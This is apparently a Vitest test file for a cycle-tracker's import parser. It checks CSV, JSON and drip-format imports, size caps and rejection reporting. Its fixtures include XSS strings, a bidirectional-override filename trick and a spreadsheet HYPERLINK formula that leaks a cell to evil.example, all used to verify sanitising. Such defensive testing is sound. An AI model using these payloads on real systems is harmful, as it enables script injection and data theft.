import { describe, expect, it } from 'vitest'
import { NOTE_MAX, type StoredDay } from '../../core/calc/body-signs/stored-day.ts'
import {
  COLUMN_NAME_MAX,
  CYCLE_FILE_FORMAT,
  type CycleFile,
  cycleFileName,
  cycleFileText,
  importPlan,
  LISTED_REJECTIONS,
  MAX_IMPORT_BYTES,
  NAMED_COLUMNS,
  parseCycleFile,
  unreadColumns,
} from '../../core/calc/cycle-file.ts'
import { MAX_PERIODS, type StoredPeriod } from '../../core/calc/cycle-log.ts'
import { MAX_IMPORT_DAYS } from '../../core/calc/import-limits.ts'
import { Temporal } from '../../core/calc/temporal.ts'

const today = Temporal.PlainDate.from('2026-11-25')

/** The file read, failing the test if it was refused whole. */
function read(text: string): CycleFile {
  const file = parseCycleFile(text, today)
  if ('problem' in file) throw new Error(`refused: ${file.problem}`)
  return file
}

const problemOf = (text: string) => {
  const file = parseCycleFile(text, today)
  return 'problem' in file ? file.problem : null
}

/** A pseudo-random log (a fixed seed): starts 21–45 days apart, some with a last day, some left out. */
function randomLog(seed: number, count: number): StoredPeriod[] {
  let state = seed
  const next = () => {
    state = (state * 1103515245 + 12345) % 2 ** 31
    return state / 2 ** 31
  }
  let start = today.subtract({ days: 30 * count })
  return Array.from({ length: count }, () => {
    start = start.add({ days: 21 + Math.floor(next() * 25) })
    const end = next() < 0.5 ? start.add({ days: Math.floor(next() * 8) }).toString() : undefined
    const excluded = next() < 0.2
    return end ? { start: start.toString(), end, excluded } : { start: start.toString(), excluded }
  }).filter((period) => Temporal.PlainDate.compare(Temporal.PlainDate.from(period.start), today) <= 0)
}

describe('our file', () => {
  it('reads back exactly the log it was written from (export then import is the identity)', () => {
    for (const seed of [1, 2, 3, 42, 2026]) {
      const log = randomLog(seed, 40)
      const file = read(cycleFileText(log, [], '2026-11-25'))
      expect(file.kind).toBe('ours')
      expect(file.periods).toEqual(log)
      expect(file.rejectedCount).toBe(0)
    }
  })

  it('names itself, its version and its day, and is named for the day', () => {
    const text = cycleFileText(
      [{ start: '2026-10-01', end: '2026-10-05', excluded: true }],
      [{ date: '2026-10-12', lh: 'positive' }],
      '2026-11-25',
    )
    expect(JSON.parse(text)).toEqual({
      format: CYCLE_FILE_FORMAT,
      version: 2,
      exportedOn: '2026-11-25',
      periods: [{ start: '2026-10-01', end: '2026-10-05', excluded: true }],
      days: [{ date: '2026-10-12', lh: 'positive' }],
    })
    expect(cycleFileName('2026-11-25')).toBe('my-cycles-2026-11-25.json')
  })

  it('refuses a JSON file that is not ours, or from a newer version, as a whole', () => {
    expect(problemOf('{"periods":[{"start":"2026-10-01"}]}')).toBe('cycles.import.notOurs')
    expect(problemOf(`{"format":"${CYCLE_FILE_FORMAT}","version":"1","periods":[]}`)).toBe(
      'cycles.import.notOurs',
    )
    expect(problemOf(`{"format":"${CYCLE_FILE_FORMAT}","version":3,"periods":[]}`)).toBe(
      'cycles.import.newer',
    )
    expect(problemOf('{"format": broken')).toBe('cycles.import.notOurs')
    expect(problemOf(`{"format":"${CYCLE_FILE_FORMAT}","version":1,"periods":[]}`)).toBe(
      'cycles.import.nothing',
    )
  })

  it('reports each entry it cannot use by its place, and keeps the others', () => {
    const file = read(
      JSON.stringify({
        format: CYCLE_FILE_FORMAT,
        version: 1,
        periods: [
          { start: '2026-09-01', excluded: false },
          { start: '<script>alert(1)</script>' },
          { start: '2026-12-01' },
          { start: '2026-10-01', end: '2026-10-20' },
          { start: 20261001 },
          null,
          { start: '2026-10-29', end: '2026-11-02', excluded: 'yes', extra: '\u0000' },
        ],
      }),
    )
    expect(file.periods).toEqual([
      { start: '2026-09-01', excluded: false },
      // Only `true` leaves a cycle out; anything else a file says is not a mark.
      { start: '2026-10-29', end: '2026-11-02', excluded: false },
    ])
    expect(file.rejected).toEqual([
      { line: 2, problem: 'cycles.import.badDate' },
      { line: 3, problem: 'cycles.future' },
      { line: 4, problem: 'cycles.invalidEnd' },
      { line: 5, problem: 'cycles.import.badDate' },
      { line: 6, problem: 'cycles.import.badDate' },
    ])
  })
})

describe('a log whose every line is refused', () => {
  it('is previewed with each line and why, not answered in one sentence', () => {
    const file = read('start,end\n2026-13-01,\n2027-01-05,\n2026-10-01,2026-10-30\n')
    expect(file.periods).toEqual([])
    expect(file.days).toEqual([])
    expect(file.rejected).toEqual([
      { line: 2, problem: 'cycles.import.badDate' },
      { line: 3, problem: 'cycles.future' },
      { line: 4, problem: 'cycles.invalidEnd' },
    ])
  })
})

describe('files that are not a log', () => {
  it('refuses an empty file, a binary one and one over the size cap', () => {
    expect(problemOf('')).toBe('cycles.import.empty')
    expect(problemOf('\uFEFF \r\n\n')).toBe('cycles.import.empty')
    expect(problemOf('\u0089PNG\r\n\u001a\n\u0000\u0000')).toBe('cycles.import.notOurs')
    expect(problemOf('2026-10-01\u0000')).toBe('cycles.import.notOurs')
    expect(problemOf(`2026-10-01\n${' '.repeat(MAX_IMPORT_BYTES)}`)).toBe('cycles.import.tooLarge')
  })

  // Security review, round two, item 7: the cap is in bytes. 60 dated rows of Cyrillic notes
  // repeated to 1.5 MB are fewer than a million UTF-16 units, and were read in part.
  it('refuses a file of multi-byte text over the cap in bytes, whole, not the part under it', () => {
    const rows = Array.from({ length: 60 }, (_, i) =>
      Temporal.PlainDate.from('2020-01-01')
        .add({ days: 29 * i })
        .toString(),
    ).map((date) => `${date},${'заметка'.repeat(400)}\n`)
    let text = `date,note\n${rows.join('')}`
    while (new TextEncoder().encode(text).length < 1_500_000) text += rows.join('')
    expect(text.length).toBeLessThan(MAX_IMPORT_BYTES)
    expect(problemOf(text)).toBe('cycles.import.tooLarge')
    // As the browser reports it: the file's size, whatever is in the text.
    expect(parseCycleFile('2026-10-01', today, MAX_IMPORT_BYTES + 1)).toEqual({
      problem: 'cycles.import.tooLarge',
    })
    expect(parseCycleFile('2026-10-01', today, MAX_IMPORT_BYTES)).not.toHaveProperty('problem')
  })

  it('calls a file without a single date not a log, whatever its lines hold', () => {
    expect(problemOf('hello\r\n<script>alert(1)</script>\r\n=HYPERLINK("x")')).toBe('cycles.import.notOurs')
  })
})

describe('one date per line', () => {
  it('reads ISO dates with any line ending and a byte-order mark, and reports the others by line', () => {
    const file = read(
      '\uFEFF2026-08-01\r\n2026-08-29\r03/04/2026\n\n2026-09-26,note\n2026-02-30\n2027-01-01\n2026-08-01\n',
    )
    expect(file.kind).toBe('dates')
    expect(file.periods).toEqual([
      { start: '2026-08-01', excluded: false },
      { start: '2026-08-29', excluded: false },
      { start: '2026-09-26', excluded: false },
    ])
    // A day-month order is never guessed; 30 February and next year are refused.
    expect(file.rejected).toEqual([
      { line: 3, problem: 'cycles.import.badDate' },
      { line: 6, problem: 'cycles.import.badDate' },
      { line: 7, problem: 'cycles.future' },
    ])
  })

  it('takes a leap day only in a leap year', () => {
    expect(read('2024-02-29\n2025-02-29\n').periods).toEqual([{ start: '2024-02-29', excluded: false }])
  })

  it('lists the first rejected lines of 10,000 and counts the rest', () => {
    const lines = Array.from({ length: 10_000 }, (_, i) => (i === 5000 ? '2026-10-01' : `row ${i}`))
    const file = read(lines.join('\n'))
    expect(file.periods).toEqual([{ start: '2026-10-01', excluded: false }])
    expect(file.rejectedCount).toBe(9_999)
    expect(file.rejected).toHaveLength(LISTED_REJECTIONS)
    expect(file.rejected[0]).toEqual({ line: 1, problem: 'cycles.import.badDate' })
  })

  it('reads 10,000 good dates, which no log can hold whole', () => {
    // One a day, 27 years back: every one after 1900, the oldest date a log takes.
    const dates = Array.from({ length: 10_000 }, (_, i) => today.subtract({ days: i + 1 }).toString())
    const file = read(dates.join('\n'))
    expect(file.periods).toHaveLength(10_000)
    expect(importPlan([], file.periods).full).toBe(true)
  })
})

describe('CSV with a header', () => {
  it('reads a date or start column, with a last day and a mark when it has them', () => {
    const file = read(
      [
        '"Start";"End";"Excluded";"Note"',
        '"2026-08-01";"2026-08-05";"";"ok"',
        '2026-08-29;;yes;',
        '2026-09-26;2026-09-20;;end before start',
        ';;;',
      ].join('\n'),
    )
    expect(file.kind).toBe('csv')
    expect(file.periods).toEqual([
      { start: '2026-08-01', end: '2026-08-05', excluded: false },
      { start: '2026-08-29', excluded: true },
    ])
    expect(file.rejected).toEqual([{ line: 4, problem: 'cycles.invalidEnd' }])
    expect(read('date,flow\n2026-10-01,heavy\n').periods).toEqual([{ start: '2026-10-01', excluded: false }])
  })

  it('reads drip’s export: bleeding days a day or two apart are one period; excluded bleeding is spotting', () => {
    const header =
      'date,temperature.value,temperature.exclude,bleeding.value,bleeding.exclude,mucus.value,note.value'
    const file = read(
      [
        header,
        '2026-08-01,,,2,false,,',
        '2026-08-02,,,3,false,,',
        '2026-08-04,,,1,false,,', // a dry day inside the period
        '2026-08-15,36.6,false,,,,', // temperature only: not a bleeding day
        '2026-08-29,,,0,true,,', // spotting drip excludes: not the period's first day (issue 60, item 3)
        '2026-08-30,,,1,false,,',
        '2026-09-26,,,2,false,,',
        'not a date,,,2,false,,',
        '2026-11-26,,,2,false,,', // tomorrow
      ].join('\r\n'),
    )
    expect(file.kind).toBe('drip')
    expect(file.periods).toEqual([
      { start: '2026-08-01', end: '2026-08-04', excluded: false },
      { start: '2026-08-30', excluded: false },
      { start: '2026-09-26', excluded: false },
    ])
    expect(file.spotting).toBe(1)
    expect(file.rejected).toEqual([
      { line: 9, problem: 'cycles.import.badDate' },
      { line: 10, problem: 'cycles.future' },
    ])
  })

  it('keeps only the first day of bleeding longer than a period can be', () => {
    const days = Array.from(
      { length: 20 },
      (_, i) => `${Temporal.PlainDate.from('2026-09-01').add({ days: i })},,,2,false`,
    )
    const file = read(['date,a,b,bleeding.value,bleeding.exclude', ...days].join('\n'))
    expect(file.periods).toEqual([{ start: '2026-09-01', excluded: false }])
  })
})

describe('columns not read (review m5, decision 073)', () => {
  it('names the columns of a CSV that hold something and are not read, in the file’s order', () => {
    const file = read(
      [
        'Date;Temperature;Empty;End;Notes;Excluded',
        '2026-08-10;36.4;;2026-08-14;;',
        '2026-09-08;;;;felt fine;yes',
        ';;;;;',
      ].join('\n'),
    )
    expect(file.periods).toEqual([
      { start: '2026-08-10', end: '2026-08-14', excluded: false },
      { start: '2026-09-08', excluded: true },
    ])
    expect(file.unread).toEqual({ names: ['Temperature', 'Notes'], more: 0 })
    // Every column read, or empty: nothing named.
    expect(read('start,end,excluded,Mood\n2026-08-10,,,\n').unread).toBeUndefined()
    // One date per line has no header, so no column to name.
    expect(read('2026-08-10,36.4\n2026-09-08\n').unread).toBeUndefined()
  })

  it('names the columns a converter’s CSV with drip’s bleeding column holds beside it', () => {
    const file = read('Date,bleeding.value,bleeding.exclude,temperature.value\n2026-10-01,2,false,36.5\n')
    expect(file.kind).toBe('drip')
    expect(file.unread).toEqual({ names: ['temperature.value'], more: 0 })
    // drip's own file, through its reader: drip's "false" is what was not logged.
    const drip = read('date,bleeding.value,pain.cramps,sex.solo\n2026-10-01,2,true,false\n')
    expect(drip.unread).toEqual({ names: ['pain.cramps'], more: 0 })
  })

  it('names 10,000 columns as the first few and a count, with the file refused for nothing', () => {
    const names = Array.from({ length: 10_000 }, (_, i) => `Column ${i}`)
    const file = read(
      [['Date', ...names].join(','), ['2026-10-01', ...names.map(() => 'x')].join(',')].join('\n'),
    )
    expect(file.periods).toEqual([{ start: '2026-10-01', excluded: false }])
    expect(file.unread).toEqual({ names: names.slice(0, NAMED_COLUMNS), more: 10_000 - NAMED_COLUMNS })
  })

  describe('unreadColumns: a stranger’s names made fit to show', () => {
    it('strips line breaks, NUL and other control and format characters, and trims', () => {
      expect(
        unreadColumns([
          'Temp\r\nerature',
          ' Notes\u0000 ',
          '\tLH\u0007 test\u007F',
          'Cramps\u0085\u2028pain',
          // Bidirectional overrides and zero-width characters, which could make a name read backwards.
          '\u202Egnp.exe\u202C\u200B\uFEFF',
        ]).names,
      ).toEqual(['Temp erature', 'Notes', 'LH test', 'Cramps pain', 'gnp.exe'])
    })

    it('keeps markup and formulas as the letters they are, cut to the longest name shown', () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
      const { names } = unreadColumns(['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', formula])
      expect(names[0]).toBe('<script>alert(1)</script>')
      expect(names[1]).toBe('<img src=x onerror=alert(1)>')
      expect(names[2]).toBe(`${formula.slice(0, COLUMN_NAME_MAX - 1)}…`)
      expect([...(names[2] ?? '')]).toHaveLength(COLUMN_NAME_MAX)
    })

    it('cuts by characters, not UTF-16 units, and a pile of combining marks too', () => {
      const [emoji, zalgo] = unreadColumns(['🩸'.repeat(100), `a${'\u0301'.repeat(5_000)}`]).names
      expect([...(emoji ?? '')]).toEqual([...'🩸'.repeat(COLUMN_NAME_MAX - 1), '…'])
      expect([...(zalgo ?? '')]).toHaveLength(COLUMN_NAME_MAX)
    })

    it('drops empty names and repeats, in any case, and counts the rest after the first few', () => {
      expect(unreadColumns(['', '  ', '\r\n', 'Notes', 'notes', 'NOTES ', 'Mood'])).toEqual({
        names: ['Notes', 'Mood'],
        more: 0,
      })
      const many = unreadColumns(Array.from({ length: 10_000 }, (_, i) => `c${i % 5_000}`))
      expect(many.names).toEqual(Array.from({ length: NAMED_COLUMNS }, (_, i) => `c${i}`))
      expect(many.more).toBe(5_000 - NAMED_COLUMNS)
      expect(unreadColumns([])).toEqual({ names: [], more: 0 })
    })
  })
})

describe('importPlan', () => {
  const log: StoredPeriod[] = [
    { start: '2026-08-01', end: '2026-08-05', excluded: false },
    { start: '2026-08-29', excluded: false },
    { start: '2026-09-26', excluded: false },
  ]

  it('adds what is new, changes what the file says differently, and keeps a last day the file lacks', () => {
    const plan = importPlan(log, [
      { start: '2026-07-04', excluded: false },
      { start: '2026-08-01', excluded: false },
      { start: '2026-08-29', end: '2026-09-02', excluded: true },
      { start: '2026-09-26', excluded: false },
    ])
    expect(plan).toEqual({
      added: [{ start: '2026-07-04', excluded: false }],
      changed: [{ start: '2026-08-29', end: '2026-09-02', excluded: true }],
      unchanged: 2,
      otherEnds: [],
      close: [],
      full: false,
      days: { added: [], replaced: [], identical: 0 },
    })
  })

  it('asks of new starts 14 days or fewer from another, as the add form does (review m5)', () => {
    // A tracker's CSV with a row per day: Aug 10 and Aug 11 are one period's days, not two periods.
    const file = read('Date\n2026-08-10\n2026-08-11\n2026-09-08\n2026-10-20\n')
    const log: StoredPeriod[] = [{ start: '2026-10-06', excluded: false }]
    const plan = importPlan(log, file.periods)
    expect(plan.added.map((period) => period.start)).toEqual([
      '2026-08-10',
      '2026-08-11',
      '2026-09-08',
      '2026-10-20',
    ])
    // 14 days from a logged start counts; 28 days apart does not.
    expect(plan.close.map((period) => period.start)).toEqual(['2026-08-10', '2026-08-11', '2026-10-20'])
    expect(importPlan([], [{ start: '2026-09-08', excluded: false }]).close).toEqual([])
  })

  it('keeps a logged last day over the file’s, and names the difference, unless the file’s are chosen', () => {
    const file = [{ start: '2026-08-01', end: '2026-08-03', excluded: false }]
    const kept = importPlan(log, file)
    expect(kept).toMatchObject({ changed: [], unchanged: 1 })
    expect(kept.otherEnds).toEqual([{ start: '2026-08-01', logged: '2026-08-05', file: '2026-08-03' }])
    const chosen = importPlan(log, file, [], [], { fileEnds: true })
    expect(chosen).toMatchObject({ changed: file, unchanged: 0, otherEnds: kept.otherEnds })
  })

  it('says when the merged log would be more than a log may hold', () => {
    const many = Array.from({ length: MAX_PERIODS - 2 }, (_, i) => ({
      start: today.subtract({ days: 28 * (i + 10) }).toString(),
      excluded: false,
    }))
    expect(importPlan(log, many).full).toBe(true)
    expect(importPlan(log, many.slice(1)).full).toBe(false)
  })
})

describe('our file, version 2: the days’ signs', () => {
  const days: StoredDay[] = [
    // Bleeding and the cervix (issue 60, item 5): spotting, and a cervix with two of its three signs.
    // Several LH tests with their times; the day's result is the positive one.
    {
      date: '2026-10-08',
      lh: 'positive',
      lhTests: [
        { result: 'negative', time: '09:00' },
        { result: 'positive', time: '20:15' },
      ],
    },
    { date: '2026-10-09', bleeding: 'spotting', cervix: { opening: 'partlyOpen', position: 'high' } },
    { date: '2026-10-10', temperature: { hundredths: 3640, time: '06:30', disturbed: false } },
    { date: '2026-10-11', mucus: { feeling: 'wet', appearance: 'eggWhite', excluded: true }, sex: true },
    { date: '2026-10-12', lh: 'positive', pregnancyTest: 'negative', sex: false },
  ]
  const periods: StoredPeriod[] = [{ start: '2026-10-01', end: '2026-10-05', excluded: false }]
  const ours = (version: number, entries: unknown[]) =>
    JSON.stringify({ format: CYCLE_FILE_FORMAT, version, exportedOn: '2026-11-25', periods, days: entries })

  it('reads back every sign of every day it was written with', () => {
    const file = read(cycleFileText(periods, [...days].reverse(), '2026-11-25'))
    expect(file.periods).toEqual(periods)
    expect(file.days).toEqual(days)
    expect(file.rejectedCount).toBe(0)
  })

  it('keeps each day’s note whole, line breaks and markup as text, and lists a day whose note it cannot keep (issue 60, item 3)', () => {
    const noted: StoredDay[] = [
      { date: '2026-10-13', note: 'Woke at 4\n<script>alert(1)</script>, "=1+1"' },
      { date: '2026-10-14', temperature: { hundredths: 3650, disturbed: false }, note: 'Лёгкие спазмы' },
    ]
    const back = read(cycleFileText(periods, [...days, ...noted], '2026-11-25'))
    expect(back.days).toEqual([...days, ...noted])
    const file = read(
      ours(2, [
        { date: '2026-10-15', note: 'a\r\nb\u0000c' },
        { date: '2026-10-16', note: 'x'.repeat(NOTE_MAX + 1) },
      ]),
    )
    // CR/LF is a line break and NUL is nothing anyone meant to write; a note too long is refused.
    expect(file.days).toEqual([{ date: '2026-10-15', note: 'a\nbc' }])
    expect(file.rejectedCount).toBe(1)
  })

  it('still reads a version 1 file, which has no days', () => {
    const text = JSON.stringify({ format: CYCLE_FILE_FORMAT, version: 1, exportedOn: '2026-11-25', periods })
    expect(read(text)).toMatchObject({ kind: 'ours', periods, days: [] })
    expect(problemOf(ours(3, []))).toBe('cycles.import.newer')
    expect(problemOf(ours(2, {} as unknown as unknown[]))).toBe('cycles.import.notOurs')
  })

  it('lists a day it cannot keep whole, a day ahead of today and a repeated day, numbered after the periods', () => {
    const file = read(
      ours(2, [
        days[0],
        { date: '2026-10-13', temperature: { hundredths: 4500, disturbed: false } }, // 45 °C: dropped by cleanDay
        { date: '2026-10-14', temperature: { hundredths: 3650, time: '6h30', disturbed: false } },
        { date: '13/10/2026', lh: 'positive' },
        { date: '2026-10-15' }, // no sign at all
        { date: '2026-10-16', bleeding: 'gushing' }, // not one of the four flows
        { date: '2026-10-17', cervix: { opening: 'closed', position: 'sky' } }, // one word not ours
        { date: '2026-10-18', lhTests: [{ result: 'positive', time: '25:00' }] }, // not a time
        { date: '2026-11-26', lh: 'negative' }, // tomorrow
        days[0],
      ]),
    )
    expect(file.days).toEqual([days[0]])
    expect(file.rejected).toEqual([
      { line: 3, problem: 'signs.csv.badDay' },
      { line: 4, problem: 'signs.csv.badDay' },
      { line: 5, problem: 'signs.csv.badDay' },
      { line: 6, problem: 'signs.csv.badDay' },
      { line: 7, problem: 'signs.csv.badDay' },
      { line: 8, problem: 'signs.csv.badDay' },
      { line: 9, problem: 'signs.csv.badDay' },
      { line: 10, problem: 'signs.future' },
      { line: 11, problem: 'signs.csv.duplicate' },
    ])
  })

  it('imports a file of days alone', () => {
    const text = JSON.stringify({
      format: CYCLE_FILE_FORMAT,
      version: 2,
      exportedOn: '2026-11-25',
      periods: [],
      days,
    })
    expect(read(text).days).toHaveLength(days.length)
  })

  it('reads drip’s own CSV with its signs, through the drip reader', () => {
    const file = read(
      'date,temperature.value,temperature.exclude,temperature.time,bleeding.value,bleeding.exclude\n2026-10-01,36.40,false,06:45,2,false\n',
    )
    expect(file.kind).toBe('drip')
    expect(file.periods).toEqual([{ start: '2026-10-01', excluded: false }])
    expect(file.days).toEqual([
      {
        date: '2026-10-01',
        temperature: { hundredths: 3640, time: '06:45', disturbed: false },
        bleeding: 'medium',
      },
    ])
  })

  it('refuses text that is not UTF-8 with its own message', () => {
    expect(problemOf('2026-10-01\n\uFFFD\n')).toBe('signs.csv.encoding')
    // "2026-10-01" saved as UTF-16LE, read as UTF-8: a NUL after every letter.
    expect(problemOf('2\u00000\u00002\u00006\u0000-\u00001\u00000\u0000')).toBe('signs.csv.encoding')
  })
})

describe('importPlan: the days', () => {
  const logged: StoredDay[] = [
    { date: '2026-10-10', temperature: { hundredths: 3640, disturbed: false }, lh: 'negative' },
    { date: '2026-10-11', mucus: { feeling: 'moist', appearance: 'nothing' } },
  ]

  it('counts new days, days whose signs change (keeping the logged signs the file lacks) and identical days', () => {
    const plan = importPlan([], [], logged, [
      { date: '2026-10-10', temperature: { hundredths: 3655, disturbed: false } },
      { date: '2026-10-11', mucus: { feeling: 'moist', appearance: 'nothing' } },
      { date: '2026-10-12', sex: true },
    ])
    expect(plan.days).toEqual({
      added: [{ date: '2026-10-12', sex: true }],
      replaced: [{ date: '2026-10-10', lh: 'negative', temperature: { hundredths: 3655, disturbed: false } }],
      identical: 1,
    })
  })
})

describe('the days a file may bring (security review, low 2)', () => {
  const file = (count: number) =>
    JSON.stringify({
      format: 'fertilitycalc-cycles',
      version: 2,
      periods: [{ start: today.subtract({ days: count + 1 }).toString(), excluded: false }],
      days: Array.from({ length: count }, (_, i) => ({
        date: today.subtract({ days: i }).toString(),
        sex: true,
      })),
    })

  it(`reads ${MAX_IMPORT_DAYS} days, and refuses a file with one more, whole`, () => {
    expect(read(file(MAX_IMPORT_DAYS)).days).toHaveLength(MAX_IMPORT_DAYS)
    expect(parseCycleFile(file(MAX_IMPORT_DAYS + 1), today)).toEqual({ problem: 'cycles.import.tooManyDays' })
  })
})
